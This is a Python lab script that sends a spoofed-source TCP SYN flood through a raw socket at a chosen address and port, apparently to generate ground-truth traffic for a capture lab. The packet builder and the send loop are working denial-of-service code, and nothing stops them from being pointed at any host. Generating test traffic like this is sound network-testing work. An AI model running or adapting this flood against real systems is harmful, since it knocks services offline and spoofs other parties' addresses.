#!/usr/bin/env python3
"""Sends a SYN flood from spoofed sources (stdlib only, needs root): what an attack or a
misbehaving load balancer health check looks like to the server the lab captures at.

    synflood.py --dst 10.10.0.2 --port 8080 --count 2000 --rate 1000 --log FILE

Each SYN comes from its own address in 198.18.0.0/15 (RFC 2544 benchmarking space) and its own
source port and ISN, with an MSS option, through a raw socket (IP_HDRINCL; the kernel fills in
the IPv4 checksum and the identification). Nothing answers the server's SYN/ACKs: the spoofed
addresses are routed back to the client namespace, whose kernel does not forward and drops them.
--log gets one JSON object, the ground truth: how many SYNs went out, from which addresses, when.
"""
import argparse
import json
import random
import socket
import struct
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int, isn: int) -> bytes:
    mss = struct.pack("!BBH", 2, 4, 1460)
    offset = (20 + len(mss)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, isn, 0, offset << 4, 0x02, 64240, 0, 0) + mss
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + tcp


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, default=8080)
    ap.add_argument("--count", type=int, default=2000)
    ap.add_argument("--rate", type=float, default=1000.0, help="SYNs per second")
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--log", required=True)
    a = ap.parse_args()
    rnd = random.Random(a.seed)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    base = struct.unpack("!I", socket.inet_aton("198.18.0.1"))[0]
    start = time.time()
    first = last = None
    for i in range(a.count):
        due = start + i / a.rate
        delay = due - time.time()
        if delay > 0:
            time.sleep(delay)
        src = socket.inet_ntoa(struct.pack("!I", base + i))
        sport, isn = rnd.randint(1024, 65535), rnd.getrandbits(32)
        s.sendto(syn(src, a.dst, sport, a.port, isn), (a.dst, 0))
        last = round(time.time(), 6)
        first = first or last
    with open(a.log, "w") as log:
        json.dump({"synsSent": a.count, "first": first, "last": last, "rate": a.rate, "seed": a.seed,
                   "sources": f"198.18.0.1-{socket.inet_ntoa(struct.pack('!I', base + a.count - 1))}, one SYN each",
                   "destination": f"{a.dst}:{a.port}"}, log)

if __name__ == "__main__":
    main()
